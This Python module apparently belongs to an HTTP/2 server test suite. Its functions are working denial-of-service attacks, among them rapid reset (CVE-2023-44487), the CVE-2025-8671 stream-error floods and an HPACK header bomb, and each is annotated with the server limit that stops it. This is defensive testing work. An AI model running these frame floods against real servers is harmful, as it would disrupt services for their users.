"""Streams that are reset, by the client or because of its frames."""

from __future__ import annotations

from collections.abc import Callable

from ...support import raw
from ..attacks import attack
from ..ground import Ground
from ..wire import Blocks

ID_LIMIT = 2**31 - 2


def again_and_again(
    ground: Ground, block: bytes, after: Callable[[int], bytes], *, end_stream: bool = False
) -> None:
    """Send requests of *block*, each followed by *after* of its id, until the end."""
    peer = ground.connect()
    flags = raw.END_HEADERS | (raw.END_STREAM if end_stream else 0)
    stream_id = 1
    while not ground.over:
        parts = []
        for _ in range(200):
            parts += raw.frame(raw.HEADERS, flags, stream_id, block), after(stream_id)
            stream_id += 2
        peer.send(*parts)


POST = raw.block(raw.request_fields("POST"))
GET = raw.block(raw.request_fields())


def with_length(stream_id: int) -> bytes:
    """A body longer than promised."""
    return raw.data(stream_id, b"xx", end_stream=True)


@attack(
    "requests that are cancelled at once (rapid reset, CVE-2023-44487)",
    ends=True,
    limit="`stream_reset_burst`",
)
def rapid_reset(ground: Ground) -> None:
    """The client sends RST_STREAM."""
    again_and_again(ground, GET, raw.rst_stream, end_stream=True)


@attack(
    "bodies longer than `content-length` (CVE-2025-8671)",
    ends=True,
    before="25,000 a second for ever, a line each",
    limit="`stream_reset_burst`",
)
def length_mismatch(ground: Ground) -> None:
    """The server has to send RST_STREAM, PROTOCOL_ERROR."""
    block = raw.block(raw.request_fields("POST", content_length="1"))
    again_and_again(ground, block, with_length)


@attack("WINDOW_UPDATE of 0 on each stream (CVE-2025-8671)", ends=True, limit="a connection error")
def window_of_nothing(ground: Ground) -> None:
    """A stream error in RFC 9113 section 6.9."""
    again_and_again(ground, POST, lambda n: raw.window_update(n, 0))


@attack(
    "WINDOW_UPDATE past 2**31 - 1 on each stream (CVE-2025-8671)",
    ends=True,
    limit="`stream_reset_burst`",
)
def window_overflow(ground: Ground) -> None:
    """A stream error in RFC 9113 section 6.9.1."""
    again_and_again(ground, POST, lambda n: raw.window_update(n, 2**31 - 1))


@attack(
    "DATA after END_STREAM on each stream (CVE-2025-8671)", ends=True, limit="a connection error"
)
def data_after_end(ground: Ground) -> None:
    """STREAM_CLOSED (RFC 9113 section 5.1)."""
    again_and_again(ground, GET, lambda n: raw.data(n, b"x"), end_stream=True)


@attack(
    "HEADERS after END_STREAM on each stream (CVE-2025-8671)", ends=True, limit="a connection error"
)
def headers_after_end(ground: Ground) -> None:
    """STREAM_CLOSED (RFC 9113 section 5.1)."""
    again_and_again(
        ground, GET, lambda n: raw.headers(n, [("x", "y")], end_stream=True), end_stream=True
    )


@attack(
    "PRIORITY that makes each stream depend on itself (CVE-2025-8671)",
    ends=True,
    limit="a connection error",
)
def depends_on_itself(ground: Ground) -> None:
    """A stream error in RFC 7540 section 5.3.1."""
    again_and_again(
        ground, POST, lambda n: raw.frame(raw.PRIORITY, 0, n, n.to_bytes(4, "big") + b"\0")
    )


@attack("requests with an upper-case name", ends=True, limit="`stream_reset_burst`")
def malformed(ground: Ground) -> None:
    """Malformed requests are stream errors (RFC 9113 section 8.1.1)."""
    block = raw.block([*raw.request_fields(), ("X-Upper", "1")])
    again_and_again(ground, block, lambda n: b"", end_stream=True)


@attack(
    "requests of 200 fields, a byte each",
    ends=True,
    before="unlimited",
    limit="`max_header_list_pairs`, `stream_reset_burst`",
)
def too_many_fields(ground: Ground) -> None:
    """`max_header_list_pairs` refuses them after they were decoded."""
    again_and_again(
        ground,
        GET + Blocks().field("x-some-field", "some-value") + b"\xbe" * 199,
        lambda n: b"",
        end_stream=True,
    )


@attack(
    "requests of 4 MB of fields in 5 KB (HPACK bomb)",
    ends=True,
    before="unlimited",
    limit="`max_header_list_size`, `stream_reset_burst`",
)
def header_bomb(ground: Ground) -> None:
    """The size of their list is refused after they were decoded."""
    again_and_again(
        ground,
        GET + Blocks().field("x-long", "v" * 3900) + b"\xbe" * 1000,
        lambda n: b"",
        end_stream=True,
    )


@attack(
    "requests past any limit of concurrent streams",
    ends=True,
    before="20 MiB",
    limit="`max_concurrent_streams`, `max_session_rejected_streams`",
)
def refused(ground: Ground) -> None:
    """Each gets REFUSED_STREAM, until the session ends."""
    again_and_again(ground, raw.block(raw.request_fields("POST", "/upload")), lambda n: b"")


@attack(
    "requests whose responses are cancelled after they have begun",
    ends=True,
    limit="`stream_reset_burst`",
)
def late_reset(ground: Ground) -> None:
    """Each request costs a handler, and is cancelled after its answer."""
    peer = ground.connect(window=0)
    block = raw.block(raw.request_fields(path="/drain"))
    stream_id = 1
    while not ground.over:
        ids = range(stream_id, stream_id + 200, 2)
        stream_id += 200
        peer.send(*(raw.frame(raw.HEADERS, 5, n, block) for n in ids))
        seen = peer.seen[raw.HEADERS]
        while peer.seen[raw.HEADERS] < seen + 50 and not ground.over:
            peer.hear(0.01)
        peer.send(*(raw.rst_stream(n) for n in ids))
